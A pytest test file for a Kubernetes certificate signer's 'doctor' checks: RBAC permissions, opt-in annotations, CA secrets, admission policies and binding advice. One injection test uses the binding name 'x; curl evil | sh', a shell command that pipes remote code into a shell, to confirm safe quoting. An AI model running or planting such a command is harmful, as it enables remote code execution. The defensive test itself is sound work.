"""The checks of `doctor` without a cluster: opt-in, certificate authority, lists of permissions."""

import math
import shlex
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, cast

import pytest
import yaml

from common.names import CLIENT_SIGNER
from signer.claims.ended_entry import EndedEntry
from signer.inventory.cluster_api.cluster import CLIENT_SIGNER_ANNOTATION, ClusterCondition
from signer.inventory.ended_certificates import POLICY_NAMES, EndedCertificatesClient
from signer.kinds.cluster import ClusterKey
from signer.kinds.resources import ADMISSION_POLICIES
from signer.operator_cli.checks import management_checks, workload_checks
from signer.operator_cli.checks.findings import DoctorCheck, Finding, FindingResult, exit_status
from signer.operator_cli.checks.workload_checks import (
    check_authority,
    check_opt_in,
    without_attestation,
)
from signer.operator_cli.commands import doctor
from signer.operator_cli.management.signer_state import SignerState
from tests.builders import kube_objects
from tests.builders.operator_clusters import CLUSTER
from tests.builders.replica_leases import replica_lease
from tests.fakes.cluster import FakeCluster
from tests.fakes.cluster_clients import FakeClient, management_api
from tests.fakes.management_api import Console
from tests.harness import pki

RBAC = Path(__file__).parents[5] / "packaging/signer"
NOW = datetime.now(UTC)
WHOLE = NOW.replace(microsecond=0)
LIFETIME = timedelta(days=365)


def rules(file: str, kind: str = "ClusterRole") -> list[Mapping[str, Any]]:
    """Return the rules of the role in a packaged file."""
    documents = yaml.safe_load_all((RBAC / file).read_text(encoding="utf-8"))
    [role] = [d for d in documents if d["kind"] == kind]
    found: list[Mapping[str, Any]] = role["rules"]
    return found


def test_checked_permissions_are_those_that_the_packaging_gives() -> None:
    """The rule with a wildcard is for the kinds of the infrastructure provider."""
    packaged = {
        (group, resource, tuple(rule["verbs"]))
        for rule in rules("management-rbac.yaml")
        for group in rule["apiGroups"]
        for resource in rule["resources"]
        if resource != "*"
    }
    assert packaged == set(management_checks.PERMISSIONS)


def test_checked_permissions_in_the_own_namespace_are_those_that_the_packaging_gives() -> None:
    packaged = {
        (group, resource, tuple(rule["verbs"]))
        for rule in rules("management-rbac.yaml", "Role")
        for group in rule["apiGroups"]
        for resource in rule["resources"]
    }
    assert packaged == set(management_checks.OWN_PERMISSIONS)


def test_checked_permissions_in_workload_clusters_are_packaged() -> None:
    packaged = {
        (verb, group, *resource.partition("/")[::2])
        for rule in rules("workload-rbac.yaml")
        for group in rule["apiGroups"]
        for resource in rule["resources"]
        for verb in rule["verbs"]
        if "resourceNames" not in rule
    }
    checked = {
        (verb, resource.group, resource.plural, subresource)
        for verb, resource, subresource in workload_checks.PERMISSIONS
    }
    assert checked <= packaged


def test_policies_that_the_signer_may_write_are_those_that_it_writes() -> None:
    [rule] = [rule for rule in rules("workload-rbac.yaml") if POLICY_NAMES[0] in _names(rule)]
    assert _names(rule) == list(POLICY_NAMES)
    granted = {(v, r, POLICY_NAMES[0]) for v in rule["verbs"] for r in rule["resources"]}
    checked = workload_checks.NAMED_PERMISSIONS
    assert {(verb, resource.plural, name) for verb, resource, name in checked} == granted


def _names(rule: Mapping[str, Any]) -> list[str]:
    return list(rule.get("resourceNames", ()))


def test_optional_policy_is_for_the_same_requests_as_the_list() -> None:
    text = (RBAC / "attested-nodes-policy.yaml").read_text(encoding="utf-8")
    optional, _ = yaml.safe_load_all(text)
    cluster = FakeCluster()
    entry = EndedEntry(key="ab" * 16, term=1, is_ban=True, since=WHOLE, until=WHOLE)
    EndedCertificatesClient(FakeClient(cluster)).change(lambda _: {"node-1": entry})
    listed = cluster.objects[ADMISSION_POLICIES.object_path(POLICY_NAMES[0])]
    for part in ("failurePolicy", "matchConstraints", "matchConditions"):
        assert optional["spec"][part] == listed["spec"][part]


def test_nodes_that_the_optional_policy_would_refuse_are_named() -> None:
    workload = FakeCluster(review=lambda _: {"allowed": True})
    names = [f"node-{number:02}" for number in range(13)]
    workload.put("/api/v1/nodes", *({"metadata": {"name": name}} for name in names))

    def finding(*attested: str) -> str:
        client = FakeClient(workload)
        findings = workload_checks.read_workload_findings(client, CLUSTER, frozenset(attested))
        [found] = [each for each in findings if each.check == "attested nodes"]
        assert found.result is FindingResult.OK
        return found.message

    assert finding(*names) == ""
    message = finding("node-00")
    assert message.endswith("would refuse the writes of " + ", ".join(names[1:11]) + " and 2 more")


@pytest.mark.parametrize(
    ("signers", "annotations", "result"),
    [
        ({CLIENT_SIGNER}, {}, FindingResult.OK),
        (set(), {}, FindingResult.OK),
        (set(), {"example.org/owner": "x"}, FindingResult.OK),
        ({CLIENT_SIGNER + "x"}, {}, FindingResult.PROBLEM),
        ({CLIENT_SIGNER, "example.org/other"}, {}, FindingResult.PROBLEM),
        (set(), {CLIENT_SIGNER_ANNOTATION + "s": CLIENT_SIGNER}, FindingResult.PROBLEM),
        (set(), {"cluster.x-k8s.io/client-signer": CLIENT_SIGNER}, FindingResult.PROBLEM),
    ],
    ids=["in", "out", "other annotation", "typo", "two", "typo in the key", "other prefix"],
)
def test_opt_in(signers: set[str], annotations: Mapping[str, str], result: FindingResult) -> None:
    finding = check_opt_in(CLUSTER, frozenset(signers), annotations)
    assert finding.result is result
    assert bool(finding.next_step) == (result is FindingResult.PROBLEM)


def with_secret(data: Mapping[str, bytes], **fields: Any) -> FakeCluster:  # noqa: ANN401 - of any type
    """Return a management cluster with the authority of the Cluster."""
    cluster = FakeCluster()
    body = kube_objects.secret("c1-ca", data, **{"of": "c1", **fields})
    cluster.put("/api/v1/namespaces/team-a/secrets", body)
    return cluster


def authority(lifetime: timedelta = LIFETIME) -> Mapping[str, bytes]:
    pair = pki.Authority.make("c1", pki.ec_key(), lifetime=lifetime).pair
    return {"tls.crt": pair.certificate, "tls.key": pair.key}


@pytest.mark.parametrize(
    ("management", "result", "message"),
    [
        (with_secret(authority()), FindingResult.OK, ""),
        (with_secret(authority(timedelta(days=20))), FindingResult.WARNING, "expires on"),
        (FakeCluster(), FindingResult.PROBLEM, "it is missing"),
        (with_secret(authority(), type="Opaque"), FindingResult.PROBLEM, "its type must be"),
        (with_secret(authority(), labels={}), FindingResult.PROBLEM, "its label"),
        (
            with_secret({"tls.crt": authority()["tls.crt"]}),
            FindingResult.PROBLEM,
            "lacks certificate or key",
        ),
    ],
    ids=["good", "expires soon", "missing", "type", "label", "no key"],
)
def test_certificate_authority(
    management: FakeCluster, result: FindingResult, message: str
) -> None:
    finding = check_authority(management_api(management), CLUSTER, NOW)
    assert finding.result is result
    assert message in finding.message


def test_authority_that_is_older_than_its_cluster_is_no_problem() -> None:
    """Cluster API and the signer use an authority that is older than its Cluster."""
    version = "controlplane.cluster.x-k8s.io/v1beta2"
    owner = {"apiVersion": version, "kind": "KubeadmControlPlane", "uid": "kcp"}
    older = {"creationTimestamp": "2026-10-01T00:00:00Z", "ownerReferences": [owner]}
    management = management_api(with_secret(authority(), **older))
    finding = check_authority(management, replace(CLUSTER, created=NOW), NOW)
    assert (finding.result, finding.message) == (FindingResult.OK, "")


def forbidden() -> FakeCluster:
    """Return a management cluster that lets nothing be listed."""
    management = FakeCluster()
    management.intercept(403, "GET", times=math.inf)
    return management


def admission(**binding: object) -> FakeCluster:
    """Return a management cluster with the packaged admission policy, and a changed binding."""
    text = (RBAC / "admission-policy.yaml").read_text(encoding="utf-8")
    policy, bound, *_ = yaml.safe_load_all(text)
    management = FakeCluster()
    path = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolic"
    management.put(f"{path}ies", policy)
    management.put(f"{path}ybindings", {**bound, "spec": {**bound["spec"], **binding}})
    return management


@pytest.mark.parametrize(
    ("management", "result"),
    [
        (admission(), FindingResult.OK),
        (admission(validationActions=["Audit"]), FindingResult.WARNING),
        (admission(policyName="other"), FindingResult.WARNING),
        (FakeCluster(), FindingResult.WARNING),
        (forbidden(), FindingResult.UNKNOWN),
    ],
    ids=["in force", "only audits", "not bound", "not installed", "not readable"],
)
def test_admission_policy_that_is_not_in_force_is_found(
    management: FakeCluster, result: FindingResult
) -> None:
    findings = management_checks.check_management(management_api(management), "ns", "signer")
    [found] = [each.result for each in findings if each.check == "admission policy"]
    assert found is result


def test_permissions_are_those_of_the_account_that_is_named() -> None:
    """A chart that is installed under another name has another ServiceAccount."""
    management = FakeCluster()
    [*_, checked, _] = management_checks.check_management(management_api(management), "ns", "tpm")
    assert (checked.object, checked.result) == ("ns/tpm", FindingResult.OK)
    bodies = [cast("Any", r.body) for r in management.requests if r.method == "POST"]
    assert {body["spec"]["user"] for body in bodies} == {"system:serviceaccount:ns:tpm"}


@pytest.mark.parametrize("name", ["x; curl evil | sh", "--all"])
def test_names_of_a_workload_cluster_are_no_commands_of_a_shell(name: str) -> None:
    """The name of a ClusterRoleBinding may be any text without a slash."""
    role = "system:certificates.k8s.io:certificatesigningrequests:nodeclient"
    binding = {
        "metadata": {"name": name},
        "roleRef": {"kind": "ClusterRole", "name": role},
        "subjects": [{"kind": "Group", "name": "system:bootstrappers"}],
    }
    finding = workload_checks._check_automatic_approval([binding], CLUSTER)
    assert finding.result is FindingResult.PROBLEM
    assert shlex.split(finding.next_step)[3:5] == ["--", name]


def test_doctor_does_not_advise_to_delete_bindings_that_nodes_need() -> None:
    """Nodes from before the opt-in could not renew their certificates without them."""
    role = "system:certificates.k8s.io:certificatesigningrequests:selfnodeclient"
    stays = ClusterCondition(
        removed=False, reason="NodesNotAttested", message="they stay for worker-1"
    )
    bindings = [{"metadata": {"name": "kubeadm"}, "roleRef": {"name": role}}]
    kept = replace(CLUSTER, bindings=stays)
    finding = workload_checks._check_automatic_approval(bindings, kept)
    assert finding.result is FindingResult.WARNING
    assert "they stay for worker-1" in finding.message
    assert "delete" not in finding.next_step


@pytest.mark.parametrize(
    ("results", "status"),
    [
        ([FindingResult.OK, FindingResult.WARNING], 0),
        ([FindingResult.OK, FindingResult.UNKNOWN], 3),
        ([FindingResult.UNKNOWN, FindingResult.PROBLEM], 1),
        ([], 0),
    ],
    ids=["warning", "unknown", "problem", "nothing"],
)
def test_problem_outranks_what_is_unknown(results: list[FindingResult], status: int) -> None:
    findings = [Finding(result=result, check="c", object="o") for result in results]
    assert exit_status(findings) == status


def test_finding_in_json_has_the_names_of_the_other_commands() -> None:
    """Each finding also had the field `next_step`."""
    finding = DoctorCheck("opt-in", "team-a/c1").warning("another signer", "kubectl annotate")
    assert set(finding.document()) == {"result", "check", "object", "message", "nextStep"}


def test_cluster_that_does_not_exist_is_a_problem(monkeypatch: pytest.MonkeyPatch) -> None:
    """`doctor --cluster` with a typing error ended with status 0."""
    running = SignerState(namespace="n", leases=[replica_lease()], live=frozenset({"one"}))
    monkeypatch.setattr(doctor, "check_management", lambda *_: [])
    monkeypatch.setattr(doctor, "check_policies", lambda _: [])
    monkeypatch.setattr(doctor, "read_signer", lambda _session: running)
    absent = ClusterKey(namespace="team-a", name="typo")
    arguments = {"cluster": absent, "signer_namespace": "n", "signer_account": "a"}
    console = Console(FakeCluster(), arguments)
    assert doctor.run(console.session()) == 1
    assert console.output.splitlines()[3:] == [
        "problem   Clusters   https://management",
        "  message: Cluster team-a/typo does not exist",
        "  next step: run the command `clusters` for their names",
    ]


def test_cluster_without_attestation_needs_its_bindings_and_no_authority() -> None:
    """The advice to delete the bindings would keep its nodes from joining."""
    findings = [
        Finding(result=FindingResult.PROBLEM, check=check, object="team-a/c1")
        for check in ("opt-in", "certificate authority", "automatic approval", "rights")
    ]
    assert [finding.check for finding in without_attestation(findings)] == ["opt-in", "rights"]
